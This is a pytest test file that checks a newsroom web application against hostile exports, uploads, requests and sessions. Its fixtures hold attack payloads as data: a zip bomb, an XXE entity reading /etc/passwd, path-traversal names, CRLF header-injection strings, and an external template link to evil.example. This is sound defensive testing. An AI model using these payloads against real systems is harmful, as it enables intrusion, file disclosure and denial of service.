"""Hostile input that leaves the desk, is uploaded, or asks oddly; and who asks."""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pypdf
import pytest
from fastapi import FastAPI
from starlette.testclient import TestClient
from starlette.types import Message

from bulletin.person import Role
from bulletin.settings import Settings
from review.files import attached
from review.visit import COOKIE
from storage import people
from storage.store import Store
from tests.report_templates.printed import normal, printed
from tests.review.conftest import PASSWORD, Browser
from tests.review.hostile_newsroom import TEXTS, Newsroom, pages
from tests.review.test_hostile import faults, room

__all__ = ["room"]


# --- what leaves the desk


def test_what_leaves_the_desk_is_text_in_every_form(editor: Browser, room: Newsroom) -> None:
    for name in ("candidates", "issues", "journal"):
        query = "?period=2024-08&state=all" if name == "candidates" else ""
        cells = [
            cell for row in csv.reader(io.StringIO(editor.get(f"/exports/{name}.csv{query}").text)) for cell in row
        ]
        assert [
            each for each in cells if each.lstrip("\ufeff").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
        ] == []
        assert any("script" in each for each in cells)
        book = openpyxl.load_workbook(io.BytesIO(editor.get(f"/exports/{name}.xlsx{query}").content))
        assert {cell.data_type for row in book.active.iter_rows() for cell in row} <= {"s", "n", "d", "inlineStr"}
        assert not any(cell.hyperlink for row in book.active.iter_rows() for cell in row)
    key = re.search(r"/feed\?key=[\w-]+", editor.post("/exports/feed-key").text)
    assert key
    feed = ElementTree.fromstring(editor.get(key[0]).content)
    links = [each.attrib["href"] for each in feed.iter("{http://www.w3.org/2005/Atom}link")]
    assert all(re.match(r"https?://[^\s@]+$", each) for each in links)


@pytest.mark.parametrize("form", ["txt", "html", "docx", "pdf"])
def test_an_issue_of_hostile_articles_is_printed_in_every_form(editor: Browser, room: Newsroom, form: str) -> None:
    answer = editor.get(f"/issue/2024-08/download/{form}")
    assert answer.status_code == 200
    assert "\n" not in answer.headers["content-disposition"]
    if form == "html":
        assert [
            each for each in faults(answer.text) if not each.startswith(("<style>", "style ", "opener", "loads data:"))
        ] == []
    wanted = {normal(TEXTS["script"]), normal("{{7*7}}")}
    text = ""
    for each in pages_of(answer.content) if form == "pdf" else [printed(answer.content, form)]:
        text += each
        if all(words in text for words in wanted):  # the other pages are a hundred thousand times the same letter
            break
    assert [words for words in wanted if words not in text] == []


def pages_of(body: bytes) -> Iterator[str]:
    """The normal text of a PDF page by page; reading it all takes ten times as long as making it."""
    yield from (normal(page.extract_text()) for page in pypdf.PdfReader(io.BytesIO(body)).pages)


def test_no_name_splits_a_header(editor: Browser, room: Newsroom) -> None:
    answer = editor.client.get("/sign-in?next=/%0d%0aSet-Cookie:%20x=1")
    assert "x=1" not in str(answer.headers)
    answer = editor.post("/sign-out", {}, follow_redirects=False)
    assert answer.headers["location"] == "/sign-in"
    name = 'a"\r\nSet-Cookie: x=1\r\n\u202e".docx'
    told = attached(name, "plain.docx", b"").headers["content-disposition"]
    assert told.count('"') == 2 and not re.search(r"[\r\n]|[^\x20-\x7e]", told)


# --- what is uploaded


def bomb(size: int = 250_000_000) -> bytes:
    """A Word file that swells to so many bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        with made.open("word/document.xml", "w", force_zip64=True) as inner:
            for _ in range(size // 1_000_000):
                inner.write(b" " * 1_000_000)
    return out.getvalue()


def linked() -> bytes:
    """A Word file with a template, a picture and a macro elsewhere."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        made.writestr(
            "word/document.xml", f'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;{"x" * 99}</a>'
        )
        made.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
        made.writestr("../../outside.txt", "x")
        made.writestr(
            "word/_rels/settings.xml.rels",
            '<Relationships><Relationship Id="r1" Type="attachedTemplate" TargetMode="External" '
            'Target="https://evil.example/t.dotm"/></Relationships>',
        )
    return out.getvalue()


FILES: dict[str, bytes | Callable[[], bytes]] = {
    "bomb.docx": bomb,
    "linked.docx": linked,
    "kind.docx": b"%PDF-1.7\n" + b"1 0 obj\n<<>>\nendobj\n" * 50_000,
    "deep.pdf": b"%PDF-1.7\n" + b"[" * 500_000,
    "pages.pdf": b"%PDF-1.7\n" + b"".join(b"%d 0 obj<</Type/Page>>endobj\n" % each for each in range(50_000)),
    "../../x.docx": b"PK\x03\x04" + b"\x00" * 100,
    "C:\\x\x00.docx": b"PK\x05\x06" + b"\x00" * 18,
    "empty.docx": b"",
    "x.exe": b"MZ" + b"\x90" * 1_000,
    "x.txt": b"\xff\xfe\x00\xd8" * 1_000,
    "x.html": b"<" * 300_000,
}


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused_with_one_sentence_wherever_it_is_given(
    editor: Browser, room: Newsroom, settings: Settings, name: str
) -> None:
    given = FILES[name]
    body = given() if callable(given) else given
    for path, field in (
        ("/issue/2024-08/hand-back", "file"),
        ("/issues/import", "file"),
        ("/settings/template", "template"),
    ):
        answer = editor.post(path, {}, files={field: (name, body)}, follow_redirects=False)
        assert answer.status_code in (409, 413, 422), (path, answer.status_code, answer.headers.get("location"))
        assert "<main" in answer.text
    assert not [each for each in settings.data.parent.rglob("*") if each.name in ("outside.txt", "x.docx")]


def test_a_body_beyond_the_bound_is_not_read(editor: Browser, browse: Any, room: Newsroom) -> None:
    for who in (editor, browse()):
        answer = who.client.post("/settings/template", content=(b"x" * 1_000_000 for _ in range(100)),
                                 headers={"Content-Type": "multipart/form-data; boundary=B", "X-Token": who.token},
                                 follow_redirects=False)  # fmt: skip
        assert answer.status_code == 413 and "20 MB" in answer.text
    declared = {
        "Content-Length": "99999999999",
        "X-Token": editor.token,
        "Content-Type": "application/x-www-form-urlencoded",
    }
    assert editor.client.post("/paste", content=b"a=1", headers=declared).status_code == 413


def test_no_form_has_more_fields_than_an_article_can(editor: Browser) -> None:
    kind = {"Content-Type": "application/x-www-form-urlencoded", "X-Token": editor.token}
    for body in (b"&".join(b"a%d=1" % each for each in range(50_000)), b"url=" + b"a" * 9_000_000, b"=&" * 90_000):
        assert editor.client.post("/paste/given", content=body, headers=kind).status_code < 500


# --- how it is asked


def test_no_odd_host_method_or_length_is_a_fault_of_ours(editor: Browser, room: Newsroom) -> None:
    paths = [path for path in pages(room) if "/" in path][:20]
    for path in paths:
        for method in ("HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "X-Y"):
            assert editor.client.request(method, path, headers={"X-Token": editor.token}).status_code < 500
    for host in ("evil.example", "a b", "[::1", "x:99999", "a" * 5_000, "127.0.0.1@evil.example", ""):
        answer = editor.client.get("/exports", headers={"Host": host})
        assert answer.status_code < 500 and "evil.example" not in answer.text
        assert (
            editor.client.post("/exports/feed-key", headers={"Host": host, "X-Token": editor.token}).status_code < 500
        )
    for path in (
        f"/search?q={'a' * 30_000}",
        f"/{'a/' * 20_000}",
        "/search?" + "q=1&" * 10_000,
        "/%ff%fe",
        "/..%2f..%2fetc",
    ):
        assert editor.client.get(path).status_code < 500


async def test_a_browser_that_leaves_in_the_middle_of_a_form_is_no_fault_of_ours(
    app: FastAPI, caplog: pytest.LogCaptureFixture
) -> None:
    kind = b"multipart/form-data; boundary=B"
    scope = {
        "type": "http", "method": "POST", "path": "/sign-in", "raw_path": b"/sign-in", "query_string": b"",
        "headers": [(b"host", b"desk"), (b"content-type", kind)], "scheme": "http", "server": ("desk", 80),
        "client": ("127.0.0.1", 1), "http_version": "1.1", "root_path": "",
    }  # fmt: skip
    part = b'--B\r\nContent-Disposition: form-data; name="name"\r\n\r\nabc'
    said: list[Message] = [{"type": "http.disconnect"}, {"type": "http.request", "body": part, "more_body": True}]
    told: list[Message] = []

    async def receive() -> Message:
        return said.pop() if len(said) > 1 else said[0]

    async def send(message: Message) -> None:
        told.append(message)

    await app(scope, receive, send)
    assert told[0]["status"] == 400 and caplog.records == []


# --- who asks


def test_the_cookie_is_new_at_every_sign_in_and_worth_nothing_after_the_sign_out(browse: Any, editor: Browser) -> None:
    client = browse().client
    client.cookies.set(COOKIE, "chosen-by-an-attacker")
    answer = client.post("/sign-in", data={"name": "王编辑", "password": PASSWORD}, follow_redirects=False)
    told = answer.headers["set-cookie"].lower()
    assert "httponly" in told and "samesite=lax" in told and "path=/" in told and "domain" not in told
    cookie = answer.cookies[COOKIE]
    assert cookie not in ("chosen-by-an-attacker", editor.client.cookies[COOKIE]) and len(cookie) >= 40
    editor.post("/sign-out")
    other = browse().client
    other.cookies.set(COOKIE, editor.client.cookies.get(COOKIE) or "")
    assert other.get("/candidates", follow_redirects=False).status_code == 303
    other.cookies.set(COOKIE, cookie)
    assert other.get("/password").status_code == 200


def test_over_https_the_cookie_never_travels_without_it(app: FastAPI, editor: Browser) -> None:
    with TestClient(app, base_url="https://desk.example") as client:
        answer = client.post("/sign-in", data={"name": "王编辑", "password": PASSWORD}, follow_redirects=False)
    assert "secure" in answer.headers["set-cookie"].lower()


def test_the_token_of_another_is_refused_and_a_right_taken_is_gone_at_the_next_request(
    browse: Any, store: Store, room: Newsroom
) -> None:
    one, two = browse("甲编辑", Role.EDITOR), browse("乙编辑", Role.EDITOR)
    assert one.client.post("/paste", data={"token": two.token, "url": ""}).status_code == 403
    assert one.post("/paste").status_code == 422
    with store.writing() as session:
        person = next(each for each in people.people(session) if each.name == "甲编辑")
        people.set_roles(session, person.id, (Role.OPERATOR,), True)
    assert one.post("/paste").status_code == 403
